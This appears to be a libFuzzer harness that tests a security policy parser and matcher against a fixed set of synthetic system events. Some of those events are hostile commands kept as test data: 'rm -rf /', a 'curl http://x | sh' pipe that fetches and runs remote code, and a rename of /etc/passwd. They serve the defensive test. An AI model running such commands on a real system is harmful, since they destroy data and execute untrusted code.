/* SPDX-License-Identifier: MIT */
/*
 * Fuzz target for the policy parser and matcher: any byte string either
 * becomes a policy, which then decides a fixed set of events and
 * describes its rules, or is refused with one line "fuzz.json:...". Any
 * other outcome (a crash, a policy and an error at once, a message on
 * two lines, the two readings of the position index disagreeing) aborts.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "policy.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static void check_events(const struct mid_policy *pol)
{
	static char *const rm[] = {"rm", "-rf", "/", NULL};
	static char *const sh[] = {"sh", "-c", "curl http://x | sh", NULL};
	struct mid_event ev[10];
	char buf[512];
	size_t i, n = mid_policy_rule_count(pol);

	memset(ev, 0, sizeof(ev));
	ev[0].kind = MID_EV_EXEC;
	ev[0].path = "/usr/bin/rm";
	ev[0].argv = rm;
	ev[1].kind = MID_EV_EXEC;
	ev[1].path = "/bin/sh";
	ev[1].argv = sh;
	ev[2].kind = MID_EV_CONNECT;
	ev[2].family = AF_INET;
	inet_pton(AF_INET, "127.0.0.1", ev[2].addr);
	ev[2].port = 443;
	ev[2].host = "API.example.com";
	ev[3].kind = MID_EV_CONNECT;
	ev[3].family = AF_INET6;
	inet_pton(AF_INET6, "fd00::1", ev[3].addr);
	ev[3].port = 53;
	ev[4].kind = MID_EV_SEND;
	ev[4].family = AF_UNIX;
	ev[4].path = "/run/x.sock";
	ev[4].fdkind = MID_FD_SOCKET;
	ev[5].kind = MID_EV_WRITE;
	ev[5].path = "/tmp/a/b/c.log";
	ev[5].fdkind = MID_FD_FILE;
	ev[6].kind = MID_EV_WRITE;
	ev[6].fdkind = MID_FD_TTY;
	ev[7].kind = MID_EV_FS;
	ev[7].op = MID_FS_RENAME;
	ev[7].path = "/etc/passwd";
	ev[7].path2 = "/tmp/p";
	ev[8].kind = MID_EV_FS;
	ev[8].op = MID_FS_DELETE;
	ev[8].path = "/var/lib/report/out/x";
	ev[9].kind = MID_EV_EXEC;
	for(i = 0; i < MID_ARRAY_LEN(ev); i++) {
		int rule = -2;
		enum mid_action a = mid_policy_match(pol, &ev[i], &rule);
		if((unsigned)a >= MID_ACT_COUNT || rule < -1 || (rule >= 0 && (size_t)rule >= n))
			abort();
		(void)mid_policy_needs_target(pol, ev[i].kind);
	}
	for(i = 0; i < n && i < 64; i++) {
		mid_policy_rule_describe(pol, i, buf, sizeof(buf));
		if(!memchr(buf, '\0', sizeof(buf)) || strncmp(buf, "rule ", 5))
			abort();
	}
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct mid_policy *pol = NULL;
	char err[512];
	enum mid_rc rc;

	err[0] = '\0';
	rc = mid_policy_parse((const char *)data, size, "fuzz.json", &pol, err, sizeof(err));
	if(rc) {
		const char *msg = err + strspn(err, "fuzz.json:0123456789 ");
		if(pol || strncmp(err, "fuzz.json", 9) || strchr(err, '\n') ||
		   !strncmp(msg, "position index", 14))
			abort();
		return 0;
	}
	if(!pol)
		abort();
	check_events(pol);
	mid_policy_free(pol);
	return 0;
}
